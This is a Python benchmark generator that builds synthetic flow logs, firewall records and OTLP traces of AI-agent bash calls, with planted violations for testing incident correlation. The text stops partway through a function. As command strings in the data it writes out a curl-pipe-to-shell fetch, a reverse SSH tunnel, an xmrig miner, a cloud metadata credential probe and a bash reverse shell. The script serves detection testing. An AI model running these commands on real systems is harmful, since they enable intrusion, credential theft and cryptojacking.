"""Generate a scaled incident for the performance benchmark (deterministic; not part of the tests).

    python benchmarks/generate.py --size S --out /tmp/bench-S                    # VPC, 1M flows
    python benchmarks/generate.py --size M --out /tmp/bench-M                    # VPC, 10M flows
    python benchmarks/generate.py --scenario seed --size S --out /tmp/bench-seed-S   # CFW, 290k
    python benchmarks/generate.py --scenario seed --size M --out /tmp/bench-seed-M   # CFW, 2.9M

Two scenarios (``--scenario``, default ``vpc``).

**vpc**: 2,000 sandboxes, 1M tool calls over 24 h. Writes, under OUT:

- ``flows/flows.log``: AWS VPC Flow Logs v5 text with its header line (custom format with
  ``flow-direction``), sorted by ``start``; about 1% REJECT (violations), all egress from the
  sandboxes. Part of the REJECTs are *planted*: 0-5 s after a tool call of the same sandbox starts,
  to a destination the call names (``curl http://IP:PORT/...``); the rest are background noise.
- ``zeek/conn.log``: the first tenth of the flows as a Zeek conn.log (TSV with ``#fields``), for
  loader benchmarks only (not an input of the join: it would duplicate events).
- ``calls/traces.jsonl``: OTLP/JSON lines, one ``ExportTraceServiceRequest`` per line holding one
  sandbox's resource (``host.name``, ``host.ip``) and up to 64 ``execute_tool`` spans.
- ``inventory.csv``: ``host,ip`` for every sandbox.
- ``calls.parquet``: the calls flattened (call_id, host, ts_start, ts_end in ns), for the
  ``duckdb_parquet`` and pandas peers (prepared here, so untimed in the benchmark).

**seed**: shaped like the seed incident of issue 11: 400 sandboxes over 2 h behind 4 NAT
gateways, one Alibaba Cloud Firewall (CFW) traffic log exported from SLS as JSON lines (M: 2.9M
records, 1.69 GB; S: 290k, 169 MB; XS: 29k) and OTLP/JSON traces (M: 199k ``execute_tool``
spans, 134 MB; S: 19.9k, 13 MB). The 229 violations are the same count at every size (the incident
does not grow with the background). Writes, under OUT:

- ``cfw/cloudfirewall_access_log.jsonl``: one record per line (~580 bytes), every value a JSON
  string as SLS exports give them, with the fields a real export carries (``__topic__``,
  ``__time__``, ``log_type``, ``acl_rule_id``, ``app_name``, ``domain``, packet and byte
  counters, ``cloud_instance_id``, ``region_id``; IPS hits add ``ips_rule_name_en`` and
  ``attack_type_name_en``), sorted by ``start_time``. ``src_ip`` is the NAT gateway's EIP and
  ``src_private_ip`` the sandbox. Contents: background allowed traffic (``rule_result`` ``pass``,
  direction ``out``); allowed traffic *caused* by calls (``pip install``, ``git clone``, ... a
  second or two after the call starts: anchors for the clock-offset estimate); inbound scans
  dropped at the EIPs (direction ``in``: not violations); and 229 violations (``drop``, or
  ``alert`` for the IPS mining rule): planted right after a call whose command names the
  destination (reverse SSH tunnels that retry, miners that keep calling their pool, metadata
  probes, reverse shells), plus background violations, two of them from a host that is no sandbox.
- ``calls/traces.jsonl``: OTLP/JSON lines as in the VPC scenario (same writer), plus
  ``process.exit.code`` as an ``intValue`` (255 for the tunnels, 28 for the metadata probes, ...).
- ``inventory.csv``: ``host,ip`` for the sandboxes *except 8* that were started after the
  inventory snapshot: their identity comes only from the traces' ``host.ip``.

Strings are built column-wise with ``pyarrow.compute`` (no per-row Python for the network
records) and streamed to disk in time-ordered chunks, so memory stays flat whatever the size.
"""

from __future__ import annotations

import argparse
import json
import math
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

SEED = 20251202
CHUNK = 1_000_000

# --- shared helpers ---------------------------------------------------------------------------


def s(values: np.ndarray | pa.Array) -> pa.Array:
    """Values as an Arrow string array."""
    return pc.cast(pa.array(values) if not isinstance(values, pa.Array) else values, pa.string())


def join(*parts: pa.Array | str, sep: str = " ") -> pa.Array:
    """Row-wise concatenation of string arrays and constants."""
    return pc.binary_join_element_wise(*parts, sep)


def make_calls(
    rng: np.random.Generator, n: int, sandboxes: int, t0: int, span_s: int
) -> dict[str, np.ndarray]:
    """``n`` tool calls sorted by start (ns) over ``span_s`` seconds, each on a random sandbox."""
    start_ns = np.sort(rng.integers(t0 * 10**9, (t0 + span_s) * 10**9, n))
    duration_ns = (rng.exponential(3.0, n) * 1e9).astype(np.int64) + 50_000_000
    host = rng.integers(0, sandboxes, n)
    return {"start": start_ns, "end": start_ns + duration_ns, "host": host}


def write_otlp(
    path: Path,
    calls: dict[str, np.ndarray],
    hosts: np.ndarray,
    ips: np.ndarray,
    call_ids: np.ndarray,
    commands: Sequence[str],
    conversation: Callable[[int, int], str],
    namespace: str,
    exit_codes: np.ndarray | None = None,
) -> None:
    """OTLP/JSON lines: per sandbox, requests of up to 64 ``execute_tool bash`` spans.

    ``calls`` as from ``make_calls``; ``hosts``/``ips`` name each sandbox (resource ``host.name``
    and ``host.ip``); ``commands[i]`` is call i's command and ``conversation(i, sandbox)`` its
    ``gen_ai.conversation.id``; ``exit_codes``, when given, adds ``process.exit.code`` (an
    ``intValue``, as exporters write integers).
    """
    path.parent.mkdir(parents=True, exist_ok=True)
    order = np.lexsort((calls["start"], calls["host"]))
    with open(path, "w") as fh:
        boundaries = np.flatnonzero(np.diff(calls["host"][order])) + 1
        for group in np.split(order, boundaries):
            h = int(calls["host"][group[0]])
            resource = (
                '{"resource":{"attributes":['
                f'{{"key":"service.name","value":{{"stringValue":"rl-trainer"}}}},'
                f'{{"key":"service.namespace","value":{{"stringValue":"{namespace}"}}}},'
                f'{{"key":"host.name","value":{{"stringValue":"{hosts[h]}"}}}},'
                f'{{"key":"host.ip","value":{{"stringValue":"{ips[h]}"}}}}]}},'
                '"scopeSpans":[{"scope":{"name":"agent"},"spans":['
            )
            for lo in range(0, len(group), 64):
                spans = []
                for i in group[lo : lo + 64].tolist():
                    args = json.dumps(json.dumps({"command": commands[i]}))
                    code = (
                        ""
                        if exit_codes is None
                        else f',{{"key":"process.exit.code","value":{{"intValue":"{exit_codes[i]}"}}}}'
                    )
                    spans.append(
                        f'{{"traceId":"{i:032x}","spanId":"{i:016x}","name":"execute_tool bash",'
                        f'"kind":1,"startTimeUnixNano":"{calls["start"][i]}",'
                        f'"endTimeUnixNano":"{calls["end"][i]}","attributes":['
                        '{"key":"gen_ai.operation.name","value":{"stringValue":"execute_tool"}},'
                        '{"key":"gen_ai.tool.name","value":{"stringValue":"bash"}},'
                        f'{{"key":"gen_ai.tool.call.id","value":{{"stringValue":"{call_ids[i]}"}}}},'
                        f'{{"key":"gen_ai.conversation.id","value":{{"stringValue":"{conversation(i, h)}"}}}},'
                        f'{{"key":"gen_ai.tool.call.arguments","value":{{"stringValue":{args}}}}}'
                        f"{code}],"
                        '"status":{"code":1}}'
                    )
                fh.write('{"resourceSpans":[' + resource + ",".join(spans) + "]}]}]}\n")


def write_inventory(path: Path, hosts: np.ndarray, ips: np.ndarray) -> None:
    """``host,ip`` CSV (the columns correlate's inventory loader reads)."""
    with open(path, "w") as fh:
        fh.write("host,ip\n")
        for h, ip in zip(hosts, ips, strict=True):
            fh.write(f"{h},{ip}\n")


def write_manifest(out: Path, **facts: object) -> None:
    """``MANIFEST.json``: what was generated, for the reader of the results."""
    (out / "MANIFEST.json").write_text(json.dumps(facts, indent=1) + "\n")


# --- scenario vpc: AWS VPC Flow Logs + OTLP, 2,000 sandboxes, 24 h -----------------------------

SIZES = {"S": 1_000_000, "M": 10_000_000, "XS": 100_000}
SANDBOXES = 2_000
CALLS = 1_000_000
SPAN_S = 24 * 3600
T0 = 1_764_633_600  # 2025-12-02T00:00:00Z
VIOLATION_SHARE = 0.01
PLANTED_SHARE = 0.3  # of the violations

FIELDS = (
    "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes "
    "start end action log-status vpc-id instance-id flow-direction"
)


def sandbox_ips() -> np.ndarray:
    i = np.arange(SANDBOXES)
    return np.array([f"10.20.{a}.{b}" for a, b in zip(i // 200, i % 200 + 10, strict=True)])


def host_names() -> np.ndarray:
    return np.array([f"sbx-{i:04d}" for i in range(SANDBOXES)])


def external_ips(n: int, rng: np.random.Generator) -> np.ndarray:
    a = rng.choice([34, 52, 54, 104, 142, 151, 172, 185, 203], n)
    return np.array(
        [f"{x}.{y}.{z}.{w}" for x, y, z, w in zip(a, *rng.integers(1, 254, (3, n)), strict=True)]
    )


def write_flows(
    out: Path, n_flows: int, calls: dict[str, np.ndarray], rng: np.random.Generator
) -> dict[int, tuple[str, int]]:
    """Flows in time-sorted chunks; returns the planted (call index -> destination, port) map."""
    ips = sandbox_ips()
    pool = external_ips(5000, rng)
    n_viol = int(n_flows * VIOLATION_SHARE)
    n_planted = int(n_viol * PLANTED_SHARE)
    planted_calls = np.sort(rng.choice(CALLS, n_planted, replace=False))
    planted_dst = external_ips(n_planted, rng)
    planted_port = rng.choice([22, 3333, 4444, 8080, 6667], n_planted)
    planted_ts = calls["start"][planted_calls] // 10**9 + rng.integers(0, 6, n_planted)
    planted_host = calls["host"][planted_calls]
    chunks = max(1, n_flows // CHUNK)
    bounds = np.linspace(T0, T0 + SPAN_S, chunks + 1).astype(np.int64)
    (out / "flows").mkdir(parents=True, exist_ok=True)
    (out / "zeek").mkdir(parents=True, exist_ok=True)
    zeek_rows = n_flows // 10
    zeek_written = 0
    with open(out / "flows" / "flows.log", "wb") as fh, open(out / "zeek" / "conn.log", "wb") as zh:
        fh.write((FIELDS + "\n").encode())
        zh.write(
            b"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
            b"#path\tconn\n#open\t2025-12-02-00-00-00\n"
            b"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration"
            b"\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory"
            b"\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n"
            b"#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount"
            b"\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n"
        )
        for k in range(chunks):
            lo, hi = bounds[k], bounds[k + 1]
            in_chunk = (planted_ts >= lo) & (planted_ts < hi)
            n_plant = int(in_chunk.sum())
            n = n_flows // chunks + (1 if k < n_flows % chunks else 0) - n_plant
            start = rng.integers(lo, hi, n)
            host = rng.integers(0, SANDBOXES, n)
            dst = pool[rng.integers(0, len(pool), n)]
            dport = rng.choice([443, 80, 53, 123, 8443], n)
            reject = rng.random(n) < (n_viol - n_planted) / n_flows
            start = np.concatenate([start, planted_ts[in_chunk]])
            host = np.concatenate([host, planted_host[in_chunk]])
            dst = np.concatenate([dst, planted_dst[in_chunk]])
            dport = np.concatenate([dport, planted_port[in_chunk]])
            reject = np.concatenate([reject, np.ones(n_plant, bool)])
            order = np.argsort(start, kind="stable")
            start, host, dst, dport, reject = (x[order] for x in (start, host, dst, dport, reject))
            m = len(start)
            end = start + rng.integers(0, 60, m)
            packets = rng.integers(1, 200, m)
            octets = packets * rng.integers(40, 1500, m)
            sport = rng.integers(32768, 61000, m)
            action = np.where(reject, "REJECT", "ACCEPT")
            src = ips[host]
            eni = np.char.add("eni-0a1b2c3d4e", np.char.zfill(host.astype(str), 7))
            inst = np.char.add("i-0f00000000", np.char.zfill(host.astype(str), 7))
            line = join(
                *("5", "123456789012"),
                s(eni),
                s(src),
                s(dst),
                s(sport),
                s(dport),
                "6",
                s(packets),
                s(octets),
                s(start),
                s(end),
                s(action),
                "OK",
                "vpc-0123456789abcdef0",
                s(inst),
                "egress",
            )
            fh.write(("\n".join(line.to_pylist()) + "\n").encode())
            if zeek_written < zeek_rows:
                take = min(m, zeek_rows - zeek_written)
                uid = pc.binary_join_element_wise(
                    "C", s(np.arange(zeek_written, zeek_written + take)), ""
                )
                zline = join(
                    s(pc.cast(pa.array(start[:take]), pa.string())),
                    uid,
                    s(src[:take]),
                    s(sport[:take]),
                    s(dst[:take]),
                    s(dport[:take]),
                    "tcp",
                    "-",
                    "1.000000",
                    s(octets[:take]),
                    "0",
                    s(np.where(reject[:take], "REJ", "SF")),
                    "T",
                    "F",
                    "0",
                    "ShADadFf",
                    s(packets[:take]),
                    s(octets[:take]),
                    "0",
                    "0",
                    "-",
                    sep="\t",
                )
                zh.write(("\n".join(zline.to_pylist()) + "\n").encode())
                zeek_written += take
        zh.write(b"#close\t2025-12-03-00-00-00\n")
    return dict(
        zip(
            planted_calls.tolist(),
            zip(planted_dst, planted_port.tolist(), strict=True),
            strict=True,
        )
    )


COMMANDS = [
    "ls -la /workspace",
    "python -m pytest -q tests/",
    "cat setup.py",
    "git status",
    "pip install -e .",
    "grep -rn TODO src/",
    "sed -n 1,80p src/main.py",
    "make -j2",
]


def write_calls(
    out: Path, calls: dict[str, np.ndarray], planted: dict[int, tuple[str, int]]
) -> None:
    """The VPC scenario's traces, inventory and the flattened ``calls.parquet``."""
    ips = sandbox_ips()
    hosts = host_names()
    call_ids = np.array([f"call_{i:07d}" for i in range(CALLS)])
    commands = [COMMANDS[i % len(COMMANDS)] for i in range(CALLS)]
    for i, (dst, port) in planted.items():
        commands[i] = f"curl -s http://{dst}:{port}/payload.sh | sh"
    write_otlp(
        out / "calls" / "traces.jsonl",
        calls,
        hosts,
        ips,
        call_ids,
        commands,
        lambda i, h: f"ep-{h:04d}-{i // 50000}",
        "run-bench",
    )
    write_inventory(out / "inventory.csv", hosts, ips)
    pq.write_table(
        pa.table(
            {
                "call_id": call_ids,
                "host": hosts[calls["host"]],
                "ts_start": calls["start"],
                "ts_end": calls["end"],
            }
        ),
        out / "calls.parquet",
    )


def generate_vpc(size: str, out: Path) -> None:
    """The VPC scenario (see the module docstring)."""
    rng = np.random.default_rng(SEED)
    out.mkdir(parents=True, exist_ok=True)
    calls = make_calls(rng, CALLS, SANDBOXES, T0, SPAN_S)
    planted = write_flows(out, SIZES[size], calls, rng)
    write_calls(out, calls, planted)
    write_manifest(
        out,
        size=size,
        flows=SIZES[size],
        calls=CALLS,
        sandboxes=SANDBOXES,
        planted=len(planted),
        seed=SEED,
    )


# --- scenario seed: Alibaba CFW JSON lines + OTLP, 400 sandboxes, 2 h --------------------------

SEED_SIZES = {"XS": (29_000, 1_990), "S": (290_000, 19_900), "M": (2_900_000, 199_000)}
"""size -> (CFW records, tool calls)."""
SEED_SANDBOXES = 400
SEED_T0 = 1_764_748_800  # 2025-12-03T08:00:00Z
SEED_SPAN_S = 2 * 3600
SEED_CHUNK = 400_000
NATS = 4  # NAT gateways, one EIP each, SEED_SANDBOXES / NATS sandboxes behind each
LATE_SANDBOXES = range(7, SEED_SANDBOXES, 50)  # 8 sandboxes missing from the inventory
INBOUND_SHARE = 0.01  # of the records: scans of the EIPs, dropped (direction in)
FETCH_SHARE = 0.25  # of the calls: a command that reaches a package index or repository
NO_ACL = "00000000-0000-0000-0000-000000000000"
DENY_ACL = "5c1f6b0e-8d2a-4e7b-9a31-0f4c2d6e8b17"
CFW_FILE = Path("cfw") / "cloudfirewall_access_log.jsonl"


@dataclass(frozen=True)
class Service:
    """An external service the sandboxes reach: domain, L7 app, port, protocol, /24 prefix."""

    domain: str
    app: str
    port: int
    proto: str
    prefix: str
    weight: float


SERVICES = (
    Service("pypi.org", "HTTPS", 443, "tcp", "151.101.0.", 6),
    Service("files.pythonhosted.org", "HTTPS", 443, "tcp", "151.101.64.", 6),
    Service("github.com", "HTTPS", 443, "tcp", "140.82.112.", 5),
    Service("objects.githubusercontent.com", "HTTPS", 443, "tcp", "185.199.108.", 3),
    Service("huggingface.co", "HTTPS", 443, "tcp", "18.172.134.", 3),
    Service("registry.npmjs.org", "HTTPS", 443, "tcp", "104.16.24.", 2),
    Service("mirrors.aliyun.com", "HTTP", 80, "tcp", "47.246.23.", 4),
    Service("", "DNS", 53, "udp", "223.5.5.", 8),
    Service("ntp.aliyun.com", "NTP", 123, "udp", "203.107.6.", 1),
    Service("oss-cn-hangzhou.aliyuncs.com", "HTTPS", 443, "tcp", "118.31.219.", 4),
)
FETCHES = (
    ("pip install -q requests==2.32.3 numpy", (0, 1)),
    ("pip download -d /tmp/wheels torch --no-deps", (0, 1)),
    ("git clone --depth 1 https://github.com/psf/requests.git /workspace/requests", (2, 3)),
    (
        "curl -sSL https://github.com/astral-sh/uv/releases/download/0.5.4/uv.tar.gz -o uv.tgz",
        (2, 3),
    ),
    ("huggingface-cli download Qwen/Qwen2.5-0.5B config.json --local-dir /tmp/m", (4,)),
    ("npm install --no-audit --silent lodash@4.17.21", (5,)),
    ("apt-get update -qq && apt-get install -y -qq jq", (6,)),
    ("ossutil cp oss://rl-data/shards/part-0007.parquet /data/", (9,)),
)
PLAIN_COMMANDS = (
    *COMMANDS,
    "python train_step.py --config configs/rollout.yaml",
    "cat /proc/cpuinfo | head -20",
    "find . -name '*.py' | xargs wc -l | tail -1",
    "python -c 'import torch; print(torch.__version__)'",
)


@dataclass(frozen=True)
class Plant:
    """A kind of planted violation: the command template, where it goes, and its records.

    ``offsets_s`` are the records' start times after the call starts (the first is jittered by
    0-2 s); ``ips`` is an IPS hit written on the first record (``rule_result`` ``alert``).
    """

    command: str
    dst: str
    """The destination; ``{n}`` stands for a random last octet (one per episode)."""
    port: int
    app: str
    domain: str
    offsets_s: tuple[int, ...]
    episodes: int
    exit_code: int
    ips: tuple[str, str] | None = None


PLANTS = (
    Plant(
        command="ssh -o StrictHostKeyChecking=no -o ExitOnForwardFailure=yes -fN "
        "-R 2222:127.0.0.1:22 tunnel@{ip}",
        dst="203.0.113.{n}",
        port=22,
        app="SSH",
        domain="",
        offsets_s=(0, 10, 20),
        episodes=20,
        exit_code=255,
    ),
    Plant(
        command="nohup ./xmrig -o stratum+tcp://{domain}:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS"
        "33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p rl --donate-level 1 -B",
        dst="198.51.100.{n}",
        port=3333,
        app="Unknown",
        domain="xmr.pool.minergate.example",
        offsets_s=(0, 60, 120, 180),
        episodes=15,
        exit_code=0,
        ips=("Mining behavior on the host", "Mining Behavior"),
    ),
    Plant(
        command="curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        dst="100.100.100.200",
        port=80,
        app="HTTP",
        domain="",
        offsets_s=(0,),
        episodes=12,
        exit_code=28,
    ),
    Plant(
        command="bash -c 'bash -i >& /dev/tcp/{ip}/4444 0>&1'",
        dst="203.0.113.{n}",
        port=4444,
        app="Unknown",
        domain="",
        offsets_s=(0, 5),
        episodes=10,
        exit_code=1,
        ips=("Bash reverse shell", "Command Execution"),
    ),
)
VIOLATIONS = 229
STRAY_HOST_IP = "10.24.9.250"  # a build server: in no inventory, runs no agent
CFW_COLUMNS = {
    "start": pa.int64(),
    "end": pa.int64(),
    "src_ip": pa.string(),
    "src_private_ip": pa.string(),
    "src_port": pa.int64(),
    "dst_ip": pa.string(),
    "dst_port": pa.int64(),
    "proto": pa.string(),
    "direction": pa.string(),
    "rule_result": pa.string(),
    "app": pa.string(),
    "domain": pa.string(),
    "extra": pa.string(),
}
"""What varies between CFW records (the rest is drawn at writing time)."""


def seed_hosts() -> tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    """Per sandbox: host name, private IP, its NAT gateway's EIP and the gateway's id."""
    i = np.arange(SEED_SANDBOXES)
    names = np.array([f"rl-sbx-{k:03d}" for k in i])
    ips = np.array([f"10.24.{k // 200}.{k % 200 + 10}" for k in i])
    nat = i * NATS // SEED_SANDBOXES
    eips = np.array([f"47.96.{101 + n}.{17 + 9 * n}" for n in range(NATS)])[nat]
    gateways = np.array([f"ngw-bp1{n}x2orlw1p2wnq7k{n}" for n in range(NATS)])[nat]
    return names, ips, eips, gateways


def addresses(prefix: str | np.ndarray, rng: np.random.Generator, n: int) -> np.ndarray:
    """``n`` addresses ``prefix + 1..254`` (a per-row prefix when an array is given)."""
    last = rng.integers(1, 255, n).astype(str)
    return np.char.add(np.asarray(prefix, dtype=str), last) if n else np.array([], dtype=str)


def cfw_table(**columns: object) -> pa.Table:
    """A block of CFW records (``CFW_COLUMNS``); scalars are repeated to the block's length."""
    n = len(next(v for v in columns.values() if isinstance(v, np.ndarray)))
    return pa.table(
        {
            name: pa.array(
                columns[name] if isinstance(columns[name], np.ndarray) else [columns[name]] * n,
                type_,
            )
            for name, type_ in CFW_COLUMNS.items()
        }
    )


def outbound(
    rng: np.random.Generator,
    start: np.ndarray,
    sandbox: np.ndarray,
    services: np.ndarray,
    *,
    private_ips: np.ndarray,
    eips: np.ndarray,
) -> pa.Table:
    """Allowed outbound records of ``sandbox`` to ``SERVICES[services]`` starting at ``start``."""

    def column(attribute: str) -> np.ndarray:
        return np.array([getattr(t, attribute) for t in SERVICES])[services]

    return cfw_table(
        start=start,
        end=start + rng.integers(0, 30, len(start)),
        src_ip=eips[sandbox],
        src_private_ip=private_ips[sandbox],
        src_port=rng.integers(32768, 61000, len(start)),
        dst_ip=addresses(column("prefix"), rng, len(start)),
        dst_port=column("port"),
        proto=column("proto"),
        direction="out",
        rule_result="pass",
        app=column("app"),
        domain=column("domain"),
        extra="",
    )


def seed_calls(
    rng: np.random.Generator, n_calls: int
) -> tuple[dict[str, np.ndarray], list[str], pa.Table]:
    """The calls, their commands, and the records they cause or go with.

    Returns (calls with their ``exit_code``, commands, records); the records are the allowed
    traffic of the fetching calls and every violation: planted ones right after the calls that
    name their destination, and background ones.
    """
    calls = make_calls(rng, n_calls, SEED_SANDBOXES, SEED_T0, SEED_SPAN_S)
    calls["exit_code"] = np.where(rng.random(n_calls) < 0.05, 1, 0)
    commands = [PLAIN_COMMANDS[i % len(PLAIN_COMMANDS)] for i in range(n_calls)]
    fetching, fetched = fetch_records(rng, calls, commands)
    planted = [
        plant_records(rng, plant, picked, calls, commands)
        for plant, picked in zip(PLANTS, pick_planted(rng, calls, fetching), strict=True)
    ]
    background = background_violations(rng, VIOLATIONS - sum(b.num_rows for b in planted))
    return calls, commands, pa.concat_tables([fetched, *planted, background])


def fetch_records(
    rng: np.random.Generator, calls: dict[str, np.ndarray], commands: list[str]
) -> tuple[np.ndarray, pa.Table]:
    """Make ``FETCH_SHARE`` of the calls fetch something; (their indices, their allowed records).

    Each fetch gives one record per service it reaches 0-2 s after the call starts, plus a repeat
    of the first for every other call.
    """
    _, private_ips, eips, _ = seed_hosts()
    fetching = np.flatnonzero(rng.random(len(commands)) < FETCH_SHARE)
    which = rng.integers(0, len(FETCHES), len(fetching))
    rows_call: list[int] = []
    rows_service: list[int] = []
    for i, k in zip(fetching.tolist(), which.tolist(), strict=True):
        commands[i], targets = FETCHES[k]
        for service in targets + (targets[:1] if i % 2 else ()):
            rows_call.append(i)
            rows_service.append(service)
    idx = np.array(rows_call, dtype=np.int64)
    delay_s = rng.integers(0, 3, len(idx))
    records = outbound(
        rng,
        calls["start"][idx] // 10**9 + delay_s,
        calls["host"][idx],
        np.array(rows_service, dtype=np.int64),
        private_ips=private_ips,
        eips=eips,
    )
    return fetching, records


def pick_planted(
    rng: np.random.Generator, calls: dict[str, np.ndarray], fetching: np.ndarray
) -> list[np.ndarray]:
    """For each of ``PLANTS``, its calls: not fetching ones, well inside the 2 h (room for
    retries)."""
    eligible = np.flatnonzero(calls["start"] // 10**9 < SEED_T0 + SEED_SPAN_S - 300)
    eligible = np.setdiff1d(eligible, fetching)
    chosen = rng.choice(eligible, sum(p.episodes for p in PLANTS), replace=False)
    ends = np.cumsum([p.episodes for p in PLANTS])
    return np.split(chosen, ends[:-1])


def plant_records(
    rng: np.random.Generator,
    plant: Plant,
    picked: np.ndarray,
    calls: dict[str, np.ndarray],
    commands: list[str],
) -> pa.Table:
    """Give the ``picked`` calls ``plant``'s command and exit code; the violations they cause."""
    _, private_ips, eips, _ = seed_hosts()
    octets = rng.integers(1, 255, plant.episodes).tolist()
    dst = np.array([plant.dst.format(n=n) for n in octets])
    for i, ip in zip(picked.tolist(), dst.tolist(), strict=True):
        commands[i] = plant.command.format(ip=ip, domain=plant.domain)
    calls["exit_code"][picked] = plant.exit_code
    repeat = len(plant.offsets_s)
    when = np.repeat(calls["start"][picked] // 10**9, repeat)
    when += np.tile(plant.offsets_s, plant.episodes)
    when[::repeat] += rng.integers(0, 3, plant.episodes)
    extra = np.full(len(when), "", dtype=object)
    result = np.full(len(when), "drop", dtype=object)
    if plant.ips:
        extra[::repeat] = (
            f',"ips_rule_name_en":"{plant.ips[0]}","attack_type_name_en":"{plant.ips[1]}"'
        )
        result[::repeat] = "alert"
    sandbox = np.repeat(calls["host"][picked], repeat)
    return cfw_table(
        start=when,
        end=when + rng.integers(0, 3, len(when)),
        src_ip=eips[sandbox],
        src_private_ip=private_ips[sandbox],
        src_port=rng.integers(32768, 61000, len(when)),
        dst_ip=np.repeat(dst, repeat),
        dst_port=plant.port,
        proto="tcp",
        direction="out",
        rule_result=result,
        app=plant.app,
        domain=plant.domain,
        extra=extra,
    )


def background_violations(rng: np.random.Generator, n: int) -> pa.Table:
    """``n`` drops at random times from random sandboxes to blocked destinations; the first two
    from a host that is no sandbox (unmapped: correlate skips them, and so must the SQL)."""
    _, private_ips, eips, _ = seed_hosts()
    sandbox = rng.integers(0, SEED_SANDBOXES, n)
    private = private_ips[sandbox].astype(object)
    private[:2] = STRAY_HOST_IP
    when = rng.integers(SEED_T0, SEED_T0 + SEED_SPAN_S, n)
    return cfw_table(
        start=when,
        end=when + rng.integers(0, 3, n),
        src_ip=eips[sandbox],
        src_private_ip=private,
        src_port=rng.integers(32768, 61000, n),
        dst_ip=addresses("192.0.2.", rng, n),
        dst_port=rng.choice([25, 445, 6667, 23, 9001], n),
        proto="tcp",
        direction="out",
        rule_result="drop",
        app="Unknown",
        domain="",
        extra="",
    )


def cfw_lines(records: pa.Table, rng: np.random.Generator, gateways: dict[str, str]) -> str:
    """The records as SLS JSON lines (every value a string), in the table's order."""
    n = records.num_rows
    start = records.column("start").to_numpy()
    end = records.column("end").to_numpy()
    stored = end + rng.integers(1, 8, n)
    in_pkts = rng.integers(1, 60, n)
    out_pkts = rng.integers(1, 40, n)
    in_bytes = in_pkts * rng.integers(60, 1400, n)
    out_bytes = out_pkts * rng.integers(60, 600, n)
    result = records.column("rule_result")
    passed = pc.equal(result, "pass")
    dropped = pc.equal(result, "drop")
    # Blocked sessions never get an answer: nothing comes back.
    in_pkts = np.where(dropped.to_numpy(zero_copy_only=False), 0, in_pkts)
    in_bytes = np.where(dropped.to_numpy(zero_copy_only=False), 0, in_bytes)
    gateway = pc.fill_null(
        pc.take(
            pa.array(list(gateways.values())),
            pc.index_in(records.column("src_ip"), pa.array(list(gateways))),
        ),
        "",
    )
    inbound = pc.equal(records.column("direction"), "in")
    gateway = pc.if_else(inbound, "", gateway)
    fields: list[tuple[str, pa.Array | str]] = [
        ("__topic__", "cloudfirewall_access_log"),
        ("__time__", s(stored)),
        ("log_type", "internet_log"),
        ("start_time", s(start)),
        ("end_time", s(end)),
        ("src_ip", records.column("src_ip")),
        ("src_private_ip", records.column("src_private_ip")),
        ("src_port", s(records.column("src_port"))),
        ("dst_ip", records.column("dst_ip")),
        ("dst_port", s(records.column("dst_port"))),
        ("ip_protocol", records.column("proto")),
        ("direction", records.column("direction")),
        ("rule_result", result),
        ("acl_rule_id", pc.if_else(passed, NO_ACL, DENY_ACL)),
        ("app_name", records.column("app")),
        ("domain", records.column("domain")),
        ("in_packet_bytes", s(in_bytes)),
        ("out_packet_bytes", s(out_bytes)),
        ("in_packet_count", s(in_pkts)),
        ("out_packet_count", s(out_pkts)),
        ("cloud_instance_id", gateway),
        ("region_id", "cn-hangzhou"),
    ]
    parts: list[pa.Array | str] = []
    literal = "{"
    for key, value in fields:
        literal += f'"{key}":"'
        if isinstance(value, str):
            literal += value + '",'
            continue
        parts += [literal, pc.cast(value, pa.string())]
        literal = '",'
    parts += [literal.rstrip(","), records.column("extra"), "}"]
    return "\n".join(pc.binary_join_element_wise(*parts, "").to_pylist()) + "\n"


def write_cfw(path: Path, n_records: int, caused: pa.Table, rng: np.random.Generator) -> None:
    """The CFW export: background and inbound records around ``caused``, in time-ordered chunks."""
    _, private_ips, eips, gateway_of = seed_hosts()
    gateways = dict(zip(eips.tolist(), gateway_of.tolist(), strict=True))
    weights = np.array([t.weight for t in SERVICES])
    weights = weights / weights.sum()
    n_inbound = int(n_records * INBOUND_SHARE)
    n_background = n_records - n_inbound - caused.num_rows
    chunks = max(1, math.ceil(n_records / SEED_CHUNK))
    bounds = np.linspace(SEED_T0, SEED_T0 + SEED_SPAN_S, chunks + 1).astype(np.int64)
    bounds[-1] = np.iinfo(np.int64).max  # retries after the last call land in the last chunk
    caused_start = caused.column("start").to_numpy()
    scanners = addresses(
        np.array(["45.148.10.", "193.32.162.", "80.94.95."])[np.arange(64) % 3], rng, 64
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w") as fh:
        for k in range(chunks):
            lo, hi = bounds[k], min(bounds[k + 1], SEED_T0 + SEED_SPAN_S)
            n_bg = n_background // chunks + (1 if k < n_background % chunks else 0)
            n_in = n_inbound // chunks + (1 if k < n_inbound % chunks else 0)
            sandbox = rng.integers(0, SEED_SANDBOXES, n_bg)
            services = rng.choice(len(SERVICES), n_bg, p=weights)
            start = rng.integers(lo, hi, n_bg)
            background = outbound(rng, start, sandbox, services, private_ips=private_ips, eips=eips)
            when = rng.integers(lo, hi, n_in)
            inbound = cfw_table(
                start=when,
                end=when,
                src_ip=scanners[rng.integers(0, len(scanners), n_in)],
                src_private_ip="",
                src_port=rng.integers(1024, 65535, n_in),
                dst_ip=np.array(sorted(gateways))[rng.integers(0, NATS, n_in)],
                dst_port=rng.choice([22, 23, 3389, 6379, 8080], n_in),
                proto="tcp",
                direction="in",
                rule_result="drop",
                app="Unknown",
                domain="",
                extra="",
            )
            mine = caused.filter(
